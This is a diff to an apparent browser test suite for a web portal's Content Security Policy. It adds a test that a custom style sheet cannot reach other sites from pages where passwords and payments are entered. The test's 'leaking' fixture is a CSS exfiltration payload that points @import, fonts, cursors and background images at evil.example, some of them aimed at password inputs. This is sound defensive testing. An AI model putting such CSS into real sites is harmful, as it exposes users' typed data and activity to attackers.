@@ -184,24 +184,17 @@ describe('addresses in settings', () => {
     await portal.set({ useCustomMenu: 'N', mcpMenu: [] })
   })
 
-  test('the cooperative’s style sheet, logo and chat load from the addresses that are set and the policy names just those [SEC-54]', async () => {
+  test('the cooperative’s logo and chat load from the addresses that are set and the policy names just those [SEC-54]', async () => {
     await portal.set({
-      featureFlagCustomCss: '/custom.css',
       portalLogoPath: 'https://images.example/logo.png',
       webChatSetting: { ...noChat, scriptUrl: 'https://chat.example/chat.js', apiUrl: 'https://api.chat.example/v1' },
     })
     const { page, context, origins } = await newVisitor()
-    await context.route(`${portal.origin}/custom.css`, (route) =>
-      route.fulfill({ contentType: 'text/css', body: 'h1 { letter-spacing: 7px }' }),
-    )
     await context.route(/^https:/u, (route) =>
       route.fulfill({ contentType: 'text/javascript', body: 'window.chatLoaded = true' }),
     )
     const answer = await page.goto(portal.origin + paths.home())
     await expect.poll(() => page.evaluate(() => 'chatLoaded' in window)).toBe(true)
-    expect(
-      await page.getByRole('heading', { level: 1 }).evaluate((title) => getComputedStyle(title).letterSpacing),
-    ).toBe('7px')
     const policy = answer?.headers()['content-security-policy'] ?? ''
     expect(policy).toMatch(/script-src 'self' 'sha256-[\w+/]+=*' https:\/\/chat\.example;/u)
     expect(policy).toContain("img-src 'self' data: blob: https://images.example;")
@@ -217,9 +210,59 @@ describe('addresses in settings', () => {
     })
     expect(stray).toBe('refused')
     await context.close()
-    await portal.set({ featureFlagCustomCss: '', portalLogoPath: '', webChatSetting: noChat })
+    await portal.set({ portalLogoPath: '', webChatSetting: noChat })
+  })
+
+  test('the cooperative’s style sheet applies where passwords and payments are typed, and can send nothing to another site [SH-78, SEC-54]', async () => {
+    await portal.set({
+      featureFlagCustomCss: '/brand/custom.css',
+      portalLogoPath: 'https://images.example/logo.png',
+    })
+    const { page, context } = await newVisitor()
+    const own: string[] = []
+    // The browser reports a request that the policy blocks, too. Only one that leaves is routed.
+    const left: string[] = []
+    await context.route(/^https:/u, async (route) => {
+      left.push(route.request().url())
+      await route.abort()
+    })
+    await context.route(/\/brand\//u, async (route) => {
+      own.push(new URL(route.request().url()).pathname)
+      if (route.request().resourceType() === 'stylesheet')
+        return route.fulfill({ contentType: 'text/css', body: leaking })
+      return route.fulfill({ status: 404 })
+    })
+    const spacing = async () =>
+      page.getByRole('heading', { level: 1 }).evaluate((title) => getComputedStyle(title).letterSpacing)
+    for (const path of [paths.quickPay(), paths.home()]) {
+      const answer = await page.goto(portal.origin + path)
+      await expect.poll(spacing).toBe('7px')
+      expect(answer?.headers()['content-security-policy']).toContain("img-src 'self' data: blob:; font-src 'self';")
+    }
+    // Within the document of a page without secrets.
+    await page.getByRole('link', { name: 'Sign In' }).first().click()
+    await page.getByLabel('Password', { exact: true }).fill('secret')
+    await expect.poll(spacing).toBe('7px')
+    await expect.poll(() => own).toContain('/brand/own.png')
+    expect(own).toContain('/brand/own.woff2')
+    expect(left).toEqual([])
+    await context.close()
+    await portal.set({ featureFlagCustomCss: '', portalLogoPath: '' })
   })
 })
+
+/** Tries every way a style sheet has to load something; the own files are those that it may. */
+const leaking = `
+@import 'https://evil.example/more.css';
+@font-face { font-family: leak; src: url('https://evil.example/leak.woff2') }
+@font-face { font-family: own; src: url('/brand/own.woff2') }
+h1 { letter-spacing: 7px; font-family: own, leak }
+input { background-image: url('https://evil.example/typed') }
+input[type='password'] { list-style-image: url('https://evil.example/list'); cursor: url('https://evil.example/cursor'), text }
+main { background-image: url('/brand/own.png'); border-image: url('https://evil.example/border') 1 }
+body { background: image-set('https://images.example/leak?typed' 1x); filter: url('https://evil.example/filter.svg#f') }
+h1::before { content: url('https://images.example/content?typed') }
+`
 
 const noChat = {
   apiUrl: '',
